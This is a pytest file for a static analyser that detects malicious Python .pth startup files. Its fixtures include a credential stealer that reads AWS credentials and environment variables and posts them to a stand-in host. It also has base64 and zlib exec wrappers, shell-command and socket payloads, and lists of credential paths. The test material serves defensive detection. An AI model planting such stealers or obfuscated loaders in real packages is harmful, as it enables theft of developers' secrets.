"""pthguard.analysis.analyze and the static decoder under it: what a startup file's code reaches,
decoded without running anything; per-version reading; legitimate files from real wheels."""

from __future__ import annotations

import base64
import builtins
import bz2
import codecs
import hashlib
import lzma
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pthguard.analysis import known as _known
from pthguard.analysis.analyze import SUPPORTED_VERSIONS, Analysis, analyze, startup_kind
from pthguard.analysis.decode import MAX_DEPTH, examine
from pthguard.analysis.legit import known_file, template_line
from pthguard.analysis.rules import RULES
from tests.support.realfiles import real_files, real_wheel
from tests.support.wheels import litellm_like_pth

STEALER = (
    "import os, json, urllib.request\n"
    "creds = open(os.path.expanduser('~/.aws/credentials')).read()\n"
    "env = dict(os.environ)\n"
    "body = json.dumps({'c': creds, 'e': env}).encode()\n"
    "urllib.request.urlopen(urllib.request.Request('https://collector.invalid/u', data=body))\n"
)


def litellm_shape(payload: str) -> bytes:
    """The shape of litellm 1.82.8's litellm_init.pth: one import line exec'ing base64."""
    blob = base64.b64encode(payload.encode()).decode()
    return f"import os, base64; exec(base64.b64decode('{blob}'))\n".encode()


def rules(analysis: Analysis, severity: str | None = None) -> set[str]:
    return {f.rule for f in analysis.findings if severity is None or f.severity == severity}


def test_litellm_shape_is_high_and_payload_is_shown() -> None:
    result = analyze("litellm_init.pth", litellm_shape(STEALER))
    assert result.severity == "high"
    assert {"exec-decoded", "network", "credentials"} <= rules(result, "high")
    assert {"obfuscation", "environment", "url"} <= rules(result, "medium")
    messages = " ".join(f.message for f in result.findings)
    assert "~/.aws" in messages
    assert "urllib.request.urlopen" in messages
    assert "in nested layer 1: base64" in messages
    assert [d.via for d in result.decoded] == ["base64 -> exec"]
    assert "open(os.path.expanduser('~/.aws/credentials'))" in result.decoded[0].text
    assert all(f.line == 1 for f in result.findings if f.rule != "path-lines")


def test_support_marker_pth_is_high(tmp_path: Path) -> None:
    # tests.support's litellm-like file (it only appends to a marker when run)
    result = analyze("evil_init.pth", litellm_like_pth(str(tmp_path / "marker")))
    assert result.severity == "high"
    assert "exec-decoded" in rules(result, "high")
    assert "file-write" in rules(result, "medium")
    assert not (tmp_path / "marker").exists()


def test_analysis_never_executes(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """exec/eval are poisoned: the analysis still decodes every layer, and the payload's
    side effect (a marker file) never happens."""
    marker = tmp_path / "ran"
    payload = f"open({str(marker)!r}, 'w').write('x')\nimport socket\n"
    inner = f"exec(__import__('base64').b64decode({base64.b64encode(payload.encode())!r}))"
    data = f"import zlib; exec(zlib.decompress({zlib.compress(inner.encode())!r}))\n".encode()

    def poisoned(*args: object, **kwargs: object) -> None:
        raise AssertionError("analysis must not execute code")

    monkeypatch.setattr(builtins, "exec", poisoned)
    monkeypatch.setattr(builtins, "eval", poisoned)
    result = analyze("x.pth", data)
    monkeypatch.undo()
    assert not marker.exists()
    assert result.severity == "high"
    assert "network" in rules(result, "high")
    assert [d.depth for d in result.decoded] == [1, 2]


def test_layers_base64_in_zlib_in_hex_in_exec() -> None:
    innermost = "import subprocess; subprocess.run(['sh', '-c', 'id'])"
    b64 = base64.b64encode(innermost.encode()).decode()
    middle = f"import base64; exec(base64.b64decode('{b64}'))"
    hexed = zlib.compress(middle.encode()).hex()
    line = f"import zlib; exec(zlib.decompress(bytes.fromhex('{hexed}')))\n"
    result = analyze("layers.pth", line.encode())
    assert result.severity == "high"
    assert [d.via for d in result.decoded] == [
        "hex -> zlib -> exec",
        "hex -> zlib -> base64 -> exec",
    ]
    assert result.decoded[-1].text == innermost
    process = [f for f in result.findings if f.rule == "process"]
    assert process
    assert any("nested layer 2: hex -> zlib -> base64" in f.message for f in process)
    assert {"hex", "zlib", "base64"} <= {
        f.message.split()[1] for f in result.findings if f.rule == "obfuscation"
    }


@pytest.mark.parametrize(
    ("expression", "via"),
    [
        ("codecs.decode({rot13!r}, 'rot13')", "rot13"),
        ("__import__('base64').b32decode({b32!r})", "base32"),
        ("__import__('base64').b85decode({b85!r})", "base85"),
        ("__import__('base64').a85decode({a85!r})", "ascii85"),
        ("__import__('base64').b16decode({b16!r})", "base16"),
        ("__import__('binascii').unhexlify({hexs!r})", "hex"),
        ("__import__('gzip').decompress({gz!r})", "gzip"),
        ("__import__('bz2').decompress({bz!r})", "bz2"),
        ("__import__('lzma').decompress({xz!r})", "lzma"),
        ("{rev!r}[::-1]", "reversed"),
        ("''.join(map(chr, {codes!r}))", "chr-codes"),
        ("''.join(chr(c) for c in {codes!r})", "chr-codes"),
        ("bytes({codes!r})", "byte-list"),
        ("{esc!r}.decode('unicode_escape')", "unicode-escape"),
    ],
)
def test_each_decoder(expression: str, via: str) -> None:
    code = "import socket; socket.create_connection(('198.51.100.7', 443))"
    raw = code.encode()
    values = {
        "rot13": codecs.encode(code, "rot13"),
        "b32": base64.b32encode(raw),
        "b85": base64.b85encode(raw),
        "a85": base64.a85encode(raw),
        "b16": base64.b16encode(raw),
        "hexs": raw.hex(),
        "gz": __import__("gzip").compress(raw),
        "bz": bz2.compress(raw),
        "xz": lzma.compress(raw),
        "rev": code[::-1],
        "codes": list(raw),
        "esc": "".join(f"\\x{b:02x}" for b in raw).encode(),
    }
    line = f"import codecs; exec({expression.format(**values)})"
    result = analyze("d.pth", line.encode())
    assert [d.via for d in result.decoded] == [f"{via} -> exec"], result.findings
    assert result.decoded[0].text == code
    assert "network" in rules(result, "high")


def test_xor_with_a_constant_is_decoded() -> None:
    payload = "import socket; socket.socket()"
    codes = [ord(c) ^ 7 for c in payload]
    result = analyze("x.pth", f"import x; exec(''.join(chr(c ^ 7) for c in {codes}))".encode())
    assert result.decoded[0].text == payload
    assert "network" in rules(result, "high")


def test_names_are_resolved_through_obfuscation() -> None:
    line = (
        "import os; x = __import__('o' + 's'); getattr(x, 'sys' + 'tem')('id'); "
        "import importlib; importlib.import_module('sub' + 'process'); "
        "e = exec; e(''.join(['im', 'port ', 'socket']))"
    )
    result = analyze("n.pth", line.encode())
    messages = [f.message for f in result.findings]
    assert any("runs programs: os.system" in m for m in messages)
    assert any("runs programs: subprocess" in m for m in messages)
    assert "exec-assembled" in rules(result, "medium")
    assert "network" in rules(result, "high")


def test_exec_of_unknown_data_is_dynamic_and_of_undecodable_decoder_is_high() -> None:
    dynamic = analyze("a.pth", b"import sys; exec(sys.argv[0])\n")
    assert rules(dynamic, "medium") >= {"exec-dynamic"}
    assert dynamic.severity == "medium"
    decoded = analyze("b.pth", b"import base64, sys; exec(base64.b64decode(sys.argv[0]))\n")
    assert "exec-decoded" in rules(decoded, "high")


def test_opaque_literal_not_decoded_is_reported() -> None:
    blob = base64.b64encode(bytes(range(256)) * 2).decode()
    result = analyze("o.pth", f"import os; k = '{blob}'; print(len(k))\n".encode())
    assert "opaque-data" in rules(result, "medium")
    consumed = analyze("c.pth", litellm_shape(STEALER))
    assert "opaque-data" not in rules(consumed)


def test_decompression_bomb_is_capped() -> None:
    bomb = zlib.compress(b"\0" * (64 << 20), 9)
    blob = base64.b64encode(bomb).decode()
    line = f"import zlib, base64; exec(zlib.decompress(base64.b64decode('{blob}')))"
    result = analyze("bomb.pth", line.encode())
    assert "analysis-limit" in rules(result)
    assert result.decoded == ()
    assert "exec-decoded" in rules(result, "high")


def test_nesting_is_capped() -> None:
    code = "import socket"
    for _ in range(MAX_DEPTH + 3):
        code = f"import base64; exec(base64.b64decode({base64.b64encode(code.encode())!r}))"
    facts = examine(code)
    assert max(layer.depth for layer in facts.layers) <= MAX_DEPTH
    assert any(e.kind == "limit" for e in facts.events)


def test_unparsable_layer_is_matched_as_text() -> None:
    payload = b"print 'py2' ; import subprocess ; open('/home/u/.ssh/id_rsa')"
    line = f"import base64; exec(base64.b64decode({base64.b64encode(payload)!r}))"
    result = analyze("t.pth", line.encode())
    assert "syntax-error" in rules(result)
    textual = [f for f in result.findings if "text match" in f.message]
    assert {f.rule for f in textual} >= {"process", "credentials"}


@pytest.mark.parametrize(
    ("path", "label"),
    [
        ("~/.aws/credentials", "~/.aws"),
        ("/root/.ssh/id_ed25519", "~/.ssh"),
        ("/srv/app/.env", ".env"),
        ("~/.netrc", ".netrc"),
        ("~/.pypirc", ".pypirc"),
        ("~/.docker/config.json", ".docker/config.json"),
        ("~/.kube/config", ".kube/config"),
        ("~/.config/gcloud/credentials.db", "gcloud credentials"),
        ("~/.azure/msal_token_cache.json", "azure credentials"),
    ],
)
def test_credential_paths(path: str, label: str) -> None:
    result = analyze("c.pth", f"import os; open(os.path.expanduser({path!r}))\n".encode())
    assert any(f.rule == "credentials" and label in f.message for f in result.findings)
    assert result.severity == "high"


def test_file_writes_and_env_are_medium() -> None:
    result = analyze(
        "w.pth", b"import os; os.environ.get('X') and open('/tmp/x', 'a').write('1')\n"
    )
    assert rules(result, "medium") >= {"environment", "file-write"}
    assert result.severity == "medium"


def test_plain_import_is_low_and_path_lines_info() -> None:
    assert analyze("p.pth", b"import foo\n").severity == "low"
    paths = analyze("q.pth", b"# comment\n/opt/lib\nrelative/dir\n")
    assert paths.severity == "info"
    assert rules(paths) == {"path-lines"}
    assert paths.executable_lines == 0


# -- per-version reading --------------------------------------------------------------------


def test_form_feed_splits_lines_from_313() -> None:
    data = b"some/dir\x0cimport os; os.system('id')\n"
    for version in [(3, 10), (3, 11), (3, 12)]:
        assert analyze("ff.pth", data, [version]).severity == "info", version
    for version in [(3, 13), (3, 14), (3, 15)]:
        assert analyze("ff.pth", data, [version]).severity == "high", version
    every = analyze("ff.pth", data)
    process = next(f for f in every.findings if f.rule == "process")
    assert process.versions == ("3.13", "3.14", "3.15")
    assert process.line == 2
    difference = next(f for f in every.findings if f.rule == "version-difference")
    assert "3.10-3.12: 0" in difference.message
    assert "3.13-3.15: 1 (line 2)" in difference.message


def test_leading_space_import_runs_on_315_only() -> None:
    data = b"  import os; os.system('id')\n"
    for version in SUPPORTED_VERSIONS[:-1]:
        assert analyze("sp.pth", data, [version]).severity == "info", version
    assert analyze("sp.pth", data, [(3, 15)]).severity == "high"
    every = analyze("sp.pth", data)
    assert next(f for f in every.findings if f.rule == "process").versions == ("3.15",)


def test_bom_first_line_is_code_from_313() -> None:
    data = b"\xef\xbb\xbfimport socket\n"
    assert analyze("bom.pth", data, [(3, 12)]).severity == "info"
    assert analyze("bom.pth", data, [(3, 13)]).severity == "high"


def test_dot_file_is_skipped_from_313() -> None:
    data = b"import socket\n"
    assert analyze(".hidden.pth", data, [(3, 12)]).severity == "high"
    skipped = analyze(".hidden.pth", data, [(3, 13)])
    assert skipped.severity == "low"
    assert "not-processed" in rules(skipped)
    both = analyze(".hidden.pth", data)
    assert "version-difference" in rules(both)


def test_undecodable_file_is_reported() -> None:
    result = analyze("bad.pth", b"import os\n\xff\xfe\n")
    assert "decode-error" in rules(result, "medium")


def test_start_files() -> None:
    start = b"# entry points\npkg.mod:main\nnot valid!\nsocket:create_connection\n"
    result = analyze("x.start", start, [(3, 15)])
    assert result.executable_lines == 3
    assert "network" in rules(result, "high")
    assert "entry-point" in rules(result, "low")
    old = analyze("x.start", start, [(3, 12)])
    assert "not-processed" in rules(old)
    assert old.severity == "low"
    empty = analyze("gate.start", b"", [(3, 15)])
    assert any("suppresses the import lines of gate.pth" in f.message for f in empty.findings)


def test_startup_modules() -> None:
    assert startup_kind("sitecustomize.py") == "module"
    assert startup_kind("usercustomize/__init__.py") == "module"
    assert startup_kind("sitecustomize.cpython-312-x86_64-linux-gnu.so") == "module"
    assert startup_kind("sitecustomize") is None
    assert startup_kind("x.PTH") is None
    source = b"import subprocess\n\ndef f():\n    subprocess.Popen(['id'])\n"
    result = analyze("sitecustomize.py", source)
    assert "process" in rules(result, "high")
    assert "startup-module" in rules(result, "low")
    assert next(f for f in result.findings if f.rule == "process").line == 1
    compiled = analyze("sitecustomize.cpython-312.pyc", b"\x00\x01")
    assert "compiled-module" in rules(compiled, "medium")


def test_rules_cover_every_finding() -> None:
    for data in (litellm_shape(STEALER), b"import os; exec(os.sep)\n", b"a\x0cimport x\n"):
        for finding in analyze("r.pth", data).findings:
            assert finding.rule in RULES


# -- legitimate files -----------------------------------------------------------------------


def test_known_files_come_from_real_wheels() -> None:
    """Every entry of pthguard/_known.py is exactly what scripts/refresh-known-pth renders
    from the real wheels, and each real file is recognised and not flagged above info."""
    collected = real_files()
    assert (Path(_known.__file__)).read_text(encoding="utf-8") == collected.rendered
    assert len(collected.files) == len(_known.PROVENANCE)
    for real in collected.files:
        assert hashlib.sha256(real.data).hexdigest() == real.sha256
        for versions in ([v] for v in SUPPORTED_VERSIONS):
            result = analyze(real.name, real.data, versions)
            assert result.severity == "info", (real, versions, result.findings)
            assert result.known is not None
            assert real.package in result.known


def test_known_file_is_matched_by_content_never_by_name() -> None:
    collected = real_files()
    precedence = next(f for f in collected.files if f.name == "distutils-precedence.pth")
    assert analyze("anything-at-all.pth", precedence.data).known is not None
    tampered = precedence.data.replace(b"add_shim()", b"add_shim(); __import__('socket')")
    result = analyze("distutils-precedence.pth", tampered)
    assert result.known is None
    assert result.severity == "high"
    assert known_file(precedence.data + b"\n") is None


def test_real_nspkg_file_is_recognised_by_template() -> None:
    wheel = real_wheel("protobuf", "3.20.3", "--platform", "any", "--python-version", "3.9")
    with zipfile.ZipFile(wheel) as zf:
        name = next(n for n in zf.namelist() if n.endswith("-nspkg.pth"))
        data = zf.read(name)
    result = analyze(name, data)
    assert result.severity == "info"
    assert result.known is not None
    assert "namespace-package line for 'google'" in result.findings[0].message


@pytest.mark.parametrize("variant", range(len(_known.NSPKG_TEMPLATES)))
@pytest.mark.parametrize("package", ["zope", "zope.interface", "a.b.c"])
def test_nspkg_templates(variant: int, package: str) -> None:
    parts = _known.NSPKG_TEMPLATES[variant][0]
    root, body = parts[0], parts[1 : parts.index("|")]
    multi = parts[parts.index("|") + 1 :]
    parent, _, child = package.rpartition(".")
    values = {"root": root, "pth": tuple(package.split(".")), "pkg": package}
    values |= {"parent": parent, "child": child}
    line = ";".join(body + (multi if parent else ())) % values
    match = template_line(line + "\n")
    assert match is not None
    assert match.name == package
    assert analyze("x-nspkg.pth", (line + "\n").encode()).severity == "info"
    # anything else on the line, or a different root, is not the template
    assert template_line(line + ";import socket") is None
    assert template_line(line.replace(root, "__import__('os').getcwd()")) is None
    develop = line.replace(root, repr("/home/u/src/proj"))
    assert template_line(develop) is not None
    assert template_line(line.replace(root, "'x' + __import__('socket').gethostname()")) is None


def test_nspkg_name_cannot_smuggle_code() -> None:
    parts = _known.NSPKG_TEMPLATES[-1][0]
    body = parts[1 : parts.index("|")]
    values = {"root": parts[0], "pth": ("zope",), "pkg": "zope", "parent": "", "child": ""}
    line = ";".join(body) % values
    assert template_line(line) is not None
    # a name that is not an identifier is quoted by repr: still data, never code
    quoted = ";".join(body) % {**values, "pkg": "x'); __import__('socket'); ('"}
    assert template_line(quoted) is None
    assert analyze("q-nspkg.pth", quoted.encode()).severity == "low"
    # code in place of the name is not the template, and is analysed as code
    injected = line.replace("'zope'", "'zope' if __import__('socket') else 'zope'", 1)
    assert template_line(injected) is None
    assert analyze("x-nspkg.pth", injected.encode()).severity == "high"


def test_editable_finder_template() -> None:
    finder = "__editable___my_pkg_1_0_finder"
    line = f"import {finder}; {finder}.install()"
    result = analyze("__editable__.my_pkg-1.0.pth", line.encode())
    assert result.severity == "info"
    assert result.known is not None
    assert template_line(f"import {finder}; {finder}.install(); import socket") is None
    assert template_line(f"import {finder}; other.install()") is None
    path_only = analyze("__editable__.my_pkg-1.0.pth", b"/home/u/src/my_pkg/src\n")
    assert path_only.severity == "info"


# -- robustness -----------------------------------------------------------------------------

_PIECES = [
    "import os",
    "exec(",
    "base64.b64decode(",
    "'",
    ")",
    "(",
    "[::-1]",
    "+",
    "*",
    "9999999999",
    "'a'",
    "b'x'",
    "chr(",
    "''.join(",
    "map(chr,",
    "[1,2,",
    "]",
    ";",
    "\n",
    "\x0c",
    " ",
    "getattr(",
    "__import__(",
    "codecs.decode(",
    "'rot13'",
    "zlib.decompress(",
    "bytes.fromhex(",
    "for c in",
    "x=",
    "-1",
    "\\",
]


@given(
    data=st.one_of(
        st.binary(max_size=300),
        st.lists(st.sampled_from(_PIECES), max_size=40).map(
            lambda parts: ("import " + "".join(parts)).encode()
        ),
    ),
    name=st.sampled_from(["a.pth", ".a.pth", "a.start", "sitecustomize.py"]),
    versions=st.lists(st.sampled_from(SUPPORTED_VERSIONS), min_size=1, unique=True),
)
@settings(max_examples=300, deadline=None)
def test_analyze_never_fails(data: bytes, name: str, versions: list[tuple[int, int]]) -> None:
    result = analyze(name, data, versions)
    assert result.severity in ("high", "medium", "low", "info")
    assert all(f.rule in RULES for f in result.findings)
